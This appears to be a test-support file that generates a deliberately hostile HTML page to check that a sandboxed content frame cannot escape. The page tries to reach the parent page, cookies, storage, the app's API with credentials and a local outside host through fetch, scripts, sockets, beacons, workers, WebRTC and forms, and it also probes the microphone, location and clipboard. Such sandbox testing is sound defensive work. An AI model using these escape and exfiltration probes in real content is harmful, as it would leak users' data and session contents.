import { idOf } from '#test/support/chain/chain-rows.ts';

/** The page's `window.report`: the names of its attempts, and of those that succeeded. */
export interface Report {
  readonly tried: readonly string[];
  readonly reached: readonly string[];
  /** Names of ways to leave by itself, for `window.leave(name)`. */
  readonly waysOut: readonly string[];
  readonly done: boolean;
}

/**
 * An inscription that tries everything to escape its frame: to the surrounding page, our API, storage, windows and
 * the network.
 */
export function hostilePage({ httpPort, udpPort }: { httpPort: number; udpPort: number }): string {
  const outside = `127.0.0.1:${httpPort}`;
  return `<!doctype html><title>hostile</title><body><script>
const report = { tried: [], reached: [], done: false };
window.report = report;
const outside = ${JSON.stringify(outside)};
const udp = ${udpPort};

// a try reaches something where it gives anything but nothing, without an error
async function attempt(name, what) {
  report.tried.push(name);
  try {
    const limit = new Promise((_, reject) => setTimeout(reject, 3000, new Error('too slow')));
    const got = await Promise.race([what(), limit]);
    if (got !== undefined && got !== null && got !== false) report.reached.push(name + ': ' + String(got));
  } catch {}
}
const loaded = (tag, attributes) => new Promise((resolve, reject) => {
  const element = Object.assign(document.createElement(tag), attributes);
  element.onload = () => resolve('loaded');
  element.onerror = () => reject(new Error('not loaded'));
  document.body.append(element);
});
const read = (url, options) => fetch(url, options).then((response) => response.text());

const attempts = {
  'parent document': () => parent.document.title,
  'top document': () => top.document.body.innerHTML,
  'parent location': () => parent.location.href,
  'parent variables': () => parent.frames.length && parent.secret,
  'parent function': () => parent.eval('1'),
  'change the top address': () => { top.location.href = 'http://' + outside + '/top'; },
  'change the parent address': () => { parent.location = 'http://' + outside + '/parent'; },
  'frame element': () => window.frameElement,
  'cookies': () => document.cookie,
  'set a cookie': () => { document.cookie = 'a=b'; return document.cookie; },
  'local storage': () => localStorage,
  'session storage': () => sessionStorage,
  'databases': () => new Promise((resolve, reject) => {
    const request = indexedDB.open('x');
    request.onsuccess = () => resolve('opened');
    request.onerror = reject;
  }),
  'caches': () => caches.open('x'),
  'service worker': () => navigator.serviceWorker.register('/content/${idOf('library')}'),
  'a popup': () => window.open('http://' + outside + '/popup'),
  'a popup of ours': () => window.open('/status'),
  'an alert': () => { const start = Date.now(); alert('x'); return Date.now() - start > 1000; },
  'our status': () => read('/status', { credentials: 'include' }),
  'our search': () => read('/search?text=a', { credentials: 'include' }),
  'our search without credentials': () => read('/search?text=a'),
  'our page': () => read('/', { credentials: 'include', mode: 'no-cors' }).then(() => 'sent'),
  'our lookup by post': () => read('/search/hashes', { method: 'POST', body: '{}', headers: { 'content-type': 'application/json' } }),
  'contents with credentials': () => read('/content/${idOf('data')}', { credentials: 'include' }),
  'our page in a frame': () => new Promise((resolve, reject) => {
    const frame = document.createElement('iframe');
    frame.src = '/';
    frame.onload = () => { try { resolve(frame.contentDocument.title || null); } catch (error) { reject(error); } };
    document.body.append(frame);
  }),
  'an old request': () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve(request.responseText);
    request.onerror = reject;
    request.open('GET', '/status');
    request.send();
  }),
  'a fetch outside': () => read('http://' + outside + '/fetch'),
  'a fetch outside, of content': () => read('http://' + outside + '/content/x'),
  'a blind fetch outside': () => fetch('http://' + outside + '/blind', { mode: 'no-cors' }).then(() => 'sent'),
  'a picture outside': () => loaded('img', { src: 'http://' + outside + '/picture' }),
  'a script outside': () => loaded('script', { src: 'http://' + outside + '/script' }),
  'a style outside': () => loaded('link', { rel: 'stylesheet', href: 'http://' + outside + '/style' }),
  'a prefetch outside': () => loaded('link', { rel: 'prefetch', href: 'http://' + outside + '/prefetch' }),
  'a module outside': () => import('http://' + outside + '/module'),
  'a frame outside': () => { loaded('iframe', { src: 'http://' + outside + '/frame' }); },
  'an object outside': () => loaded('object', { data: 'http://' + outside + '/object' }),
  'a video outside': () => { loaded('video', { src: 'http://' + outside + '/video' }); },
  'a socket outside': () => new Promise((resolve, reject) => {
    const socket = new WebSocket('ws://' + outside + '/socket');
    socket.onopen = () => resolve('open');
    socket.onerror = reject;
  }),
  'events outside': () => new Promise((resolve, reject) => {
    const source = new EventSource('http://' + outside + '/events');
    source.onopen = () => resolve('open');
    source.onerror = reject;
  }),
  'a beacon outside': () => { navigator.sendBeacon('http://' + outside + '/beacon', 'x'); },
  'a worker that fetches': () => new Promise((resolve, reject) => {
    const code = 'fetch("http://' + outside + '/worker").then(() => postMessage("sent"), () => postMessage(null))';
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.onmessage = (event) => resolve(event.data);
    worker.onerror = reject;
  }),
  'datagrams': async () => {
    const servers = [{ urls: 'stun:127.0.0.1:' + udp }];
    const connection = new RTCPeerConnection({ iceServers: servers });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 2000));
  },
  'a quick transport': () => new WebTransport('https://' + outside + '/transport').ready.then(() => 'open'),
  'a connection made early': () => {
    const link = { rel: 'preconnect', href: 'http://' + outside };
    document.head.append(Object.assign(document.createElement('link'), link));
  },
  'the microphone': () => navigator.mediaDevices.getUserMedia({ audio: true }),
  'the place': () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
  'the clipboard': () => navigator.clipboard.readText(),
};

// these would take the frame itself away
const waysOut = {
  'go': () => { location.href = 'http://' + outside + '/leave'; },
  'go where contents are': () => { location.href = 'http://' + outside + '/content/x'; },
  'a form outside': () => {
    const form = Object.assign(document.createElement('form'), { action: 'http://' + outside + '/form', method: 'post' });
    document.body.append(form);
    form.submit();
  },
  'a download': () => {
    const link = Object.assign(document.createElement('a'), { href: 'http://' + outside + '/download', download: 'x' });
    document.body.append(link);
    link.click();
  },
  'a link to the top': () => {
    const link = Object.assign(document.createElement('a'), { href: 'http://' + outside + '/link', target: '_top' });
    document.body.append(link);
    link.click();
  },
};
report.waysOut = Object.keys(waysOut);
window.leave = (way) => waysOut[way]();
(async () => {
  for (const [name, what] of Object.entries(attempts)) await attempt(name, what);
  await new Promise((resolve) => setTimeout(resolve, 500));
  report.done = true;
})();
</script>`;
}
